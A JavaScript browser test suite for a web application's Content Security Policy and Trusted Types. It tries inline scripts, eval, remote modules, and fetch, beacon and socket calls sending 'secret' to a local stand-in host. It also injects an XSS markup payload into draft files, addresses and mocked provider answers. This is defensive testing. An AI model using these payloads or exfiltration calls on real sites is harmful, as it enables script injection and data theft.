// Breaking out: scripts, connections and frames that the policy must stop, tried in the page and in a
// worker under the headers that the page is served with; and markup in every string of a draft file
// and of a provider's answers. Nothing runs, nothing leaves, and each attempt that the policy stops is counted.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { launch } from "../../tools/chromium.mjs";
import { HOST_HEADERS, TRUSTED_TYPES, serve } from "../../tools/serve.mjs";
import { APPLICATIONS, JourneyPage } from "./journey_page.mjs";

let server;
let browser;
let stranger;
/** What arrived at another host: nothing may. */
const arrived = [];
before(async () => {
  server = await serve({ dir: "dist", port: 0 });
  browser = await launch();
  const elsewhere = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
    response.end("globalThis.ran = 'a remote script'");
  });
  elsewhere.on("upgrade", (request, socket) => { arrived.push(`upgrade ${request.url}`); socket.destroy(); });
  await new Promise((done) => elsewhere.listen(0, "127.0.0.1", done));
  stranger = { url: `http://127.0.0.1:${elsewhere.address().port}/`, close: () => { elsewhere.closeAllConnections(); elsewhere.close(); } };
});
after(async () => {
  await browser?.close();
  await server?.close();
  stranger?.close();
});

/** Counts what the policy stops, by directive. */
const count = () => {
  window.stopped = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.stopped.push(effectiveDirective));
};

/** The ways out of the page, with the directive that stops each; what becomes a script is stopped by
    Trusted Types even before that. */
const IN_THE_PAGE = {
  "an inline script": ["script-src-elem", () => document.body.append(Object.assign(document.createElement("script"), { textContent: "ran = 'inline'" }))],
  "an inline handler": ["script-src-attr", () => { const it = document.createElement("b"); it.setAttribute("onclick", "ran = 'handler'"); document.body.append(it); it.click(); }],
  "a javascript: link": ["script-src-elem", () => { const it = Object.assign(document.createElement("a"), { href: "javascript:void(ran='link')" }); document.body.append(it); it.click(); }],
  "eval": ["script-src", () => { try { (0, eval)("ran = 'eval'"); } catch { /* as it must */ } }],
  "a function of a text": ["script-src", () => { try { new Function("ran = 'Function'")(); } catch { /* as it must */ } }],
  "a timer with a text": ["script-src", () => setTimeout("ran = 'timer'", 0)],
  "a remote script": ["script-src-elem", (url) => document.body.append(Object.assign(document.createElement("script"), { src: `${url}script` }))],
  "a remote module": ["script-src-elem", (url) => import(`${url}module`).catch(() => {})],
  "a script of a blob": ["script-src-elem", () => document.body.append(Object.assign(document.createElement("script"), { src: URL.createObjectURL(new Blob(["ran = 'blob'"])) }))],
  "a worker of a blob": ["worker-src", () => { try { new Worker(URL.createObjectURL(new Blob([""]))); } catch { /* as it must */ } }],
  "a picture": ["img-src", (url) => { new Image().src = `${url}picture?secret`; }],
  "a request": ["connect-src", (url) => fetch(`${url}fetch`, { method: "POST", body: "secret", mode: "no-cors" }).catch(() => {})],
  "a beacon": ["connect-src", (url) => navigator.sendBeacon(`${url}beacon`, "secret")],
  "a socket": ["connect-src", (url) => { try { new WebSocket(url.replace("http", "ws")); } catch { /* as it must */ } }],
  "a stream of events": ["connect-src", (url) => new EventSource(`${url}events`)],
  "a form": ["form-action", (url) => { const it = Object.assign(document.createElement("form"), { action: `${url}form`, method: "post" }); document.body.append(it); it.submit(); }],
  "another base": ["base-uri", (url) => document.head.append(Object.assign(document.createElement("base"), { href: url }))],
  "a frame": ["frame-src", (url) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${url}frame` }))],
  "an object": ["object-src", (url) => document.body.append(Object.assign(document.createElement("object"), { data: `${url}object` }))],
  "a remote style": ["style-src-elem", (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}style` }))],
  "an inline style": ["style-src-elem", () => document.head.append(Object.assign(document.createElement("style"), { textContent: "b{}" }))],
  "a font": ["font-src", (url) => new FontFace("stolen", `url(${url}font)`).load().catch(() => {})],
  "markup with a script": ["require-trusted-types-for", () => { document.createElement("div").innerHTML = "<script>ran = 'markup'</scr" + "ipt>"; }],
  "markup with a frame": ["require-trusted-types-for", () => { document.createElement("div").innerHTML = "<iframe srcdoc='x'></iframe>"; }],
  "another policy of types": ["trusted-types", () => trustedTypes.createPolicy("mine", { createHTML: (html) => html })],
  "a remote worker": ["require-trusted-types-for", (url) => new Worker(`${url}worker`)],
  "a film": ["media-src", (url) => { document.createElement("video").src = `${url}film`; }],
};

/** Does it in a task of its own: what a test tool evaluates itself is not under the policy. */
const attempt = ([source, url]) => new Promise((done) => {
  setTimeout(async () => {
    try {
      await globalThis.attempts[source](url);
    } catch { /* refused at once */ }
    setTimeout(done, 60);
  });
});

/** The page without Trusted Types, which stop what becomes a script before its own directive is asked. */
function withoutTypes() {
  const dir = mkdtempSync(join(tmpdir(), "renzheng-policy-"));
  cpSync("dist", dir, { recursive: true });
  const path = join(dir, "index.html");
  const html = readFileSync(path, "utf8");
  const plain = html.replace(TRUSTED_TYPES, "");
  assert.notEqual(plain, html, "the document's policy has Trusted Types");
  writeFileSync(path, plain);
  return { dir, headers: HOST_HEADERS, close: () => rmSync(dir, { recursive: true }) };
}

const POLICIES = {
  "the policy of the headers": { of: () => ({}), isMet: (stopped, directive) => stopped.includes(directive) || stopped.includes("require-trusted-types-for") },
  "the policy of the document": { of: () => ({ headers: {} }), isMet: (stopped, directive) => stopped.includes(directive) || stopped.includes("require-trusted-types-for") },
  "each directive by itself": { of: withoutTypes, isMet: (stopped, directive) => stopped.includes(directive), skips: /trusted-types/ },
};
for (const [policy, { of, isMet, skips }] of Object.entries(POLICIES)) {
  test(`nothing runs in the page and nothing leaves it: ${policy}`, { timeout: 60_000 }, async () => {
    const { dir = "dist", close, ...options } = of();
    const own = await serve({ dir, port: 0, ...options });
    const journey = await JourneyPage.open(browser, own.url, { init: count, path: "#/" });
    const { page } = journey;
    for (const [name, [directive, act]] of Object.entries(IN_THE_PAGE)) {
      if (skips?.test(directive)) continue;
      const before = await page.evaluate(() => window.stopped.length);
      await page.evaluate(`(globalThis.attempts ??= {})[${JSON.stringify(name)}] = ${act}`);
      await page.evaluate(attempt, [name, stranger.url]);
      const stopped = await page.waitForFunction((before) => before < window.stopped.length && window.stopped.slice(before), before, { timeout: 3_000 })
        .then((found) => found.jsonValue(), () => []);
      assert.ok(isMet(stopped, directive), `${name}: ${directive} stops it, not ${stopped.join(", ") || "nothing"}`);
    }
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
    assert.equal(new URL(page.url()).origin, new URL(own.url).origin);
    assert.deepEqual(arrived, []);
    await journey.close();
    await own.close();
    close?.();
  });
}

test("nothing runs in a worker and nothing leaves it", { timeout: 60_000 }, async () => {
  const journey = await JourneyPage.open(browser, server.url, { path: "#/new" });
  const { page } = journey;
  await journey.isShown();
  const worker = page.workers().find((worker) => worker.url().includes("journey-worker"));
  const found = await worker.evaluate((url) => new Promise((done) => {
    const [stopped, passed] = [[], []];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
    const acts = {
      eval: () => (0, eval)("1"),
      function: () => new Function("return 1")(),
      request: () => fetch(`${url}worker`, { method: "POST", body: "secret", mode: "no-cors" }),
      socket: () => new Promise((open, closed) => Object.assign(new WebSocket(url.replace("http", "ws")), { onopen: open, onerror: closed })),
      module: () => import(`${url}module`),
      events: () => new Promise((open, closed) => Object.assign(new EventSource(url), { onopen: open, onerror: closed })),
      "a worker of a blob": () => new Promise((open, closed) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        Object.assign(worker, { onmessage: open, onerror: closed });
      }),
    };
    // In a task of its own, as above.
    setTimeout(async () => {
      for (const [name, act] of Object.entries(acts)) {
        await (async () => act())().then(() => passed.push(name), () => {});
      }
      setTimeout(() => done({ stopped, passed }), 100);
    });
  }), stranger.url);
  assert.deepEqual(found.passed, []);
  assert.ok(7 <= found.stopped.length, `each is counted: ${found.stopped}`);
  assert.deepEqual(arrived, []);
  await journey.close();
});

const MARKUP = (url) => `"'><img src="${url}x" onerror="ran='markup'"><script>ran='markup'</script><svg onload="ran='markup'"><a href="javascript:ran=1">x</a><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`;

/** No markup of somebody else has become an element. */
async function isClean(page, where) {
  const found = await page.evaluate((url) => [...document.querySelectorAll("*")].filter((it) =>
    [...it.attributes].some(({ name, value }) => name.startsWith("on") || (["src", "href", "action", "data"].includes(name) && (value.startsWith(url) || /^\s*javascript:/i.test(value)))) ||
    (it.localName === "script" && !it.src) || it.localName === "iframe").map((it) => it.outerHTML.slice(0, 200)), stranger.url);
  assert.deepEqual(found, [], where);
  assert.equal(await page.evaluate(() => globalThis.ran), undefined, where);
}

/** The same object with markup in every text of it. */
const poisoned = (value, text) => {
  if (typeof value === "string") return text;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poisoned(item, text)]));
  return value;
};

test("a hostile draft file, and a provider with markup in every answer, run nothing", { timeout: 120_000 }, async () => {
  const journey = await JourneyPage.open(browser, server.url, { init: count, path: "#/" });
  const { page } = journey;
  const home = await journey.begin("individual");
  await journey.complete(home, APPLICATIONS.individual);
  await journey.agree(home);
  await page.goto(`${server.url}#/saved`);
  await page.getByRole("button", { name: "Export as a file" }).first().click();
  const wait = page.waitForEvent("download");
  await page.getByRole("button", { name: "Save the file", exact: true }).click();
  const file = JSON.parse(readFileSync(await (await wait).path(), "utf8"));
  const text = MARKUP(stranger.url);
  // Once with all texts in fields and of photos, and once with every text that there is.
  const some = { ...file, name: text, open: file.open.map(([path, stamp, value]) => [path, stamp, /^(photo\.|.*(name|text|current|email|mobile|Number|introduction)$)/.test(path) ? poisoned(value, text) : value]) };
  const all = { ...poisoned(file, text), version: file.version, retention: file.retention, id: file.id };
  const before = new Set(await page.evaluate(() => Object.keys(localStorage)));
  for (const draft of [some, all]) {
    await page.goto(`${server.url}#/saved`);
    await page.getByTestId("import").setInputFiles({ name: `${text.slice(0, 20)}.json`, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(draft)) });
    await page.waitForTimeout(500);
    await isClean(page, "saved");
  }
  const keys = await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("renzheng:draft:")));
  const hostile = keys.filter((key) => !before.has(key)).map((key) => `#/a/${key.slice("renzheng:draft:".length)}`);
  assert.ok(hostile.length, "a file was taken in");
  for (const address of hostile) {
    for (const at of ["", "/administrator", "/contact", "/nickname", "/photos/id-front", "/check", "/send", "/status", "/record"]) {
      await page.goto(server.url + address + at);
      await page.locator("main h1, main [role=alert]").first().waitFor();
      await page.waitForTimeout(80);
      await isClean(page, address + at);
    }
  }
  await page.goto(`${server.url}#/`);
  await isClean(page, "start");

  // An address, too, is written by others.
  for (const hash of [`#/a/${encodeURIComponent(text)}`, `#/a/${text}`, `#/new?type=${text}`, `#/${text}`]) {
    await page.goto(server.url + hash);
    await page.waitForTimeout(150);
    await isClean(page, hash.slice(0, 20));
  }

  const context = page.context();
  const answers = { errors: [422, { title: text, detail: text, errors: [{ path: text, detail: text }, { path: "contact.email", detail: text }] }] };
  let answer = answers.errors;
  await context.route("**/config.json", (route) => route.fulfill({ json: { provider: { url: "/provider", name: text } } }));
  await context.route("**/provider/**", (route) => {
    const id = { id: "s1", state: "open", received: [] };
    if (route.request().method() === "GET") return route.fulfill({ json: { ...id, state: "submitted", wechat: answer } });
    return Array.isArray(answer) ? route.fulfill({ status: answer[0], json: answer[1] }) : route.fulfill({ status: 201, json: id });
  });
  await page.goto(`${server.url}${home}/provider`);
  await journey.reload();
  await journey.field("_agree").check();
  await page.locator("main [data-act=start]").click();
  await page.getByText("onerror=").first().waitFor();
  await isClean(page, "refused");
  answer = { taskid: text, auth_url: `javascript:ran=1//${text}`, task_status: 0, task_name: text };
  await page.locator("main [data-act=resend]").click();
  await journey.at(/\/status$/);
  for (const next of [answer, { taskid: text, task_status: 12, apply_status: 3, refill_reason: text, audit_data: [{ key_name: text, error: text }, { key_name: "contact.email", error: text }] }]) {
    answer = next;
    await journey.reload();
    await page.waitForTimeout(700);
    await isClean(page, "told");
  }
  assert.deepEqual(await page.evaluate(() => window.stopped), [], "not even the policy was needed");
  assert.deepEqual(arrived, []);
  await journey.close();
});
